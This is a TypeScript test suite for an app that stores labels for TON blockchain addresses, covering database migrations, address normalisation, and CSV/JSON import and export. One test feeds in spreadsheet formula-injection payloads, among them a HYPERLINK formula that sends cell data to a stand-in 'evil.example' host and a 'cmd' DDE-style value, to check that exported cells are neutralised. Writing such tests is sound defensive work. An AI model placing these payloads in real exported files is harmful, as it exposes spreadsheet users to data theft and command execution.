import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Address } from '@ton/core';
import { Database } from '../../electron/sqlite/database';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { LabelsStore } from '../../electron/core/services/workspace/labels-store';
import { MIGRATIONS, SCHEMA_VERSION, migrate } from '../../electron/core/services/workspace/schema';
import {
  WORKSPACE_FILE,
  openWorkspaceDb,
} from '../../electron/core/services/workspace/workspace-db';
import {
  LabelFileError,
  labelsToCsv,
  parseCsvRecords,
  parseLabelsCsv,
  parseLabelsJson,
} from '../../shared/workspace/label-file';
import { labelKey } from '../../shared/workspace/labels';

const RAW = '0:83dfd552e63729b472fcbcc8c45ebcc6691702558b68ec7527e1ba403a0f31a8';
const addr = Address.parseRaw(RAW);
const FRIENDLY_B = addr.toString({ bounceable: true });
const FRIENDLY_NB_TEST = addr.toString({ bounceable: false, testOnly: true, urlSafe: false });
const OTHER = '0:' + 'ab'.repeat(32);

let dir: string;
beforeEach(() => {
  dir = mkdtempSync(path.join(tmpdir(), 'ws-labels-'));
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

describe('workspace schema migrations', () => {
  it('creates a new file at the current version with WAL', () => {
    const db = openWorkspaceDb(dir);
    expect(db.pragma('user_version', { simple: true })).toBe(SCHEMA_VERSION);
    expect(db.pragma('journal_mode', { simple: true })).toBe('wal');
    db.close();
  });

  it('upgrades an old file step by step and keeps its rows', () => {
    const file = path.join(dir, WORKSPACE_FILE);
    const old = new Database(file);
    old.exec(MIGRATIONS[0]!.sql);
    old.pragma('user_version = 1');
    old
      .prepare('INSERT INTO labels (network, address, label, updated_at) VALUES (?, ?, ?, ?)')
      .run('local', RAW, 'Kept', 1);
    old.close();
    const db = openWorkspaceDb(dir);
    expect(db.pragma('user_version', { simple: true })).toBe(SCHEMA_VERSION);
    expect(new LabelsStore(db).get('local', RAW)?.label).toBe('Kept');
    db.close();
  });

  it('refuses a file written by a newer app and leaves it untouched', () => {
    const file = path.join(dir, WORKSPACE_FILE);
    const newer = new Database(file);
    newer.pragma(`user_version = ${SCHEMA_VERSION + 1}`);
    newer.close();
    expect(() => openWorkspaceDb(dir)).toThrow(/newer than this app/);
    const again = new Database(file);
    expect(again.pragma('user_version', { simple: true })).toBe(SCHEMA_VERSION + 1);
    again.close();
  });

  it('running the migrations twice is a no-op', () => {
    const db = openWorkspaceDb(dir);
    expect(migrate(db)).toEqual({ from: SCHEMA_VERSION, to: SCHEMA_VERSION });
    db.close();
  });
});

describe('label keys', () => {
  it('normalises every form of an address to raw lower-case', () => {
    expect(labelKey(RAW.toUpperCase())).toBe(RAW);
    expect(labelKey(FRIENDLY_B)).toBe(RAW);
    expect(labelKey(FRIENDLY_NB_TEST)).toBe(RAW);
    expect(() => labelKey('not an address')).toThrow(/not a TON address/);
  });
});

describe('LabelsStore', () => {
  it('keys labels per network and by raw address, whatever form was given', () => {
    const db = openWorkspaceDb(dir);
    const store = new LabelsStore(db);
    store.set({ network: 'local', address: FRIENDLY_B, label: 'Exchange', color: 'blue' });
    expect(store.get('local', RAW.toUpperCase())?.label).toBe('Exchange');
    expect(store.get('mainnet', RAW)).toBeNull();
    expect(Object.keys(store.lookup('local', [FRIENDLY_NB_TEST, OTHER, 'junk']))).toEqual([RAW]);
    expect(store.lookup('testnet', [RAW])).toEqual({});
    expect(store.remove('local', RAW)).toBe(true);
    expect(store.get('local', RAW)).toBeNull();
    db.close();
  });

  it('lists and searches by label, category, note', () => {
    const db = openWorkspaceDb(dir);
    const store = new LabelsStore(db);
    store.set({ network: 'local', address: RAW, label: 'Alice hot wallet', category: 'person' });
    store.set({ network: 'local', address: OTHER, label: 'Bob', note: 'met at 100%_conf' });
    expect(store.list('local', { query: 'alice' }).items.map((l) => l.address)).toEqual([RAW]);
    expect(store.list('local', { query: '100%_' }).items.map((l) => l.address)).toEqual([OTHER]);
    expect(store.list('local', { query: '%' }).total).toBe(1);
    expect(store.list('local').total).toBe(2);
    db.close();
  });

  it('imports in one transaction and reports duplicates and conflicts', () => {
    const db = openWorkspaceDb(dir);
    const store = new LabelsStore(db);
    store.set({ network: 'local', address: RAW, label: 'Old name', color: 'red' });
    const report = store.importAll(
      'local',
      parseLabelsCsv(
        `address,label,category,note\n${FRIENDLY_B},New name,cex,\n${OTHER},First,,\n${OTHER},Second,,x\n`,
      ),
    );
    expect(report).toMatchObject({ added: 1, updated: 1, unchanged: 0 });
    expect(report.conflicts).toEqual([{ line: 2, address: RAW, was: 'Old name', now: 'New name' }]);
    expect(report.duplicates).toEqual([{ line: 4, firstLine: 3, address: OTHER }]);
    expect(store.get('local', RAW)).toMatchObject({
      label: 'New name',
      color: 'red',
      category: 'cex',
    });
    expect(store.get('local', OTHER)?.label).toBe('Second');
    db.close();
  });
});

describe('label files', () => {
  it('parses quoted CSV fields with commas, quotes and line breaks, and names lines', () => {
    const recs = parseCsvRecords('a,b\r\n"x, y","say ""hi""\nthere"\n\nlast,1\n');
    expect(recs).toEqual([
      { line: 1, fields: ['a', 'b'] },
      { line: 2, fields: ['x, y', 'say "hi"\nthere'] },
      { line: 5, fields: ['last', '1'] },
    ]);
  });

  it('round-trips through CSV export and import', () => {
    const labels = [
      {
        address: RAW,
        label: 'A, "quoted"',
        category: 'c',
        note: 'two\nlines',
        color: 'green' as const,
      },
    ];
    const back = parseLabelsCsv(labelsToCsv(labels));
    expect(back).toEqual([{ line: 2, ...labels[0] }]);
  });

  it('writes formula-like labels, notes and raw -1: addresses as text, and reads them back exactly', () => {
    const master = `-1:${'3'.repeat(64)}`;
    const labels = [
      {
        address: RAW,
        label: '=HYPERLINK("http://evil.example/?l="&A1,"alice")',
        category: "+cmd|' /C calc'!A0",
        note: '@SUM(A1:A9)',
        color: null,
      },
      { address: master, label: '-elector', category: 'exchange', note: "'quoted", color: null },
    ];
    const csv = labelsToCsv(labels);
    const cells = parseCsvRecords(csv)
      .slice(1)
      .flatMap((r) => r.fields);
    // No cell a spreadsheet would evaluate: every one that starts like a formula starts with '.
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain('\'=HYPERLINK("http://evil.example/?l="&A1,"alice")');
    expect(cells).toContain(`'${master}`);
    expect(parseLabelsCsv(csv)).toEqual(
      labels.map((l, i) => ({ line: i + 2, ...l, address: l.address })),
    );
  });

  it('names the wrong line of a CSV', () => {
    const csv = `address,label\n${RAW},Fine\nnot-an-address,Bad\n${OTHER},Fine too\n`;
    expect(() => parseLabelsCsv(csv)).toThrow(LabelFileError);
    expect(() => parseLabelsCsv(csv)).toThrow(/^Line 3: "not-an-address" is not a TON address/);
    expect(() => parseLabelsCsv(`address,label\n${RAW},\n`)).toThrow(/Line 2: the label is empty/);
    expect(() => parseLabelsCsv('label,note\n')).toThrow(/Line 1: the header has no "address"/);
    expect(() => parseLabelsCsv(`address,label\n${RAW},a,b\n`)).toThrow(/Line 2: 3 fields/);
    expect(() => parseLabelsCsv(`address,label,color\n${RAW},a,pink\n`)).toThrow(
      /Line 2: unknown colour "pink"/,
    );
    expect(() => parseLabelsCsv(`address,label\n"${RAW},a\n`)).toThrow(/Line 2: a quoted field/);
  });

  it('parses JSON arrays and {labels: [...]}, naming the wrong item', () => {
    expect(parseLabelsJson(JSON.stringify([{ address: FRIENDLY_B, label: 'X' }]))).toEqual([
      { line: 1, address: RAW, label: 'X', category: '', note: '', color: null },
    ]);
    expect(() =>
      parseLabelsJson(JSON.stringify({ labels: [{ address: RAW, label: 'X' }, { address: RAW }] })),
    ).toThrow(/Line 2: the label is empty/);
    expect(() => parseLabelsJson('{nope')).toThrow(/Line 1: not valid JSON/);
  });
});
